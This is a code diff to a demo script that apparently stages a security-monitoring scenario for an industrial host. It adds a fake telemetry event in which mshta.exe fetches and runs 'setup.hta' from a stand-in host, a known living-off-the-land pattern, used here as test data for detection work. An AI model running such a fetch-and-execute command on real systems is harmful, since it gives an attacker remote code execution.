@@ -10,7 +10,7 @@ from tenet.common.v1 import common_pb2 as common
 from infra.cli.demo.cast import MANUFACTURER
 from infra.cli.demo.casework import Casework, observed_at
 from infra.cli.demo.stage import Stage, all_at_once
-from infra.cli.demo.telemetry import send, usual_day
+from infra.cli.demo.telemetry import process, send, usual_day
 from infra.cli.demo.world import agree_on_charter, furnish
 
 TENANT = MANUFACTURER.tenant_id
@@ -24,11 +24,15 @@ async def play(stage: Stage) -> Casework:
     await furnish(stage, MANUFACTURER)
     window = {"service-start": now - timedelta(hours=1), "service-end": now + timedelta(hours=8)}
     await agree_on_charter(stage, MANUFACTURER, window)
-    await send(stage, TENANT, usual_day(["scada-01"], now, 40))
+    left = process("scada-01", r"C:\Windows\System32\mshta.exe", "mshta.exe http://updates.example/setup.hta", now)
+    # Nobody looks at it in the play: the queue has something left in it, on a host that is no registered asset.
+    await send(stage, TENANT, [*usual_day(["scada-01"], now, 40), left])
     finding_id = await _weakness(stage)
     case = await Casework.of_subject(stage, TENANT, finding_id)
     plan = await case.decide()
-    stage.audience.line("ana", f"decides the plan: {len(plan.steps)} steps, line one first, line two when it is healthy")
+    stage.audience.line(
+        "ana", f"decides the plan: {len(plan.steps)} steps, line one first, line two when it is healthy"
+    )
     await all_at_once([case.dispatch(f"{step}-{n}") for n in EVERY for step in ("protect-waiting", "watch-waiting")])
     stage.audience.verified("all controllers are protected and watched while they wait: read back")
     await case.approve("max")
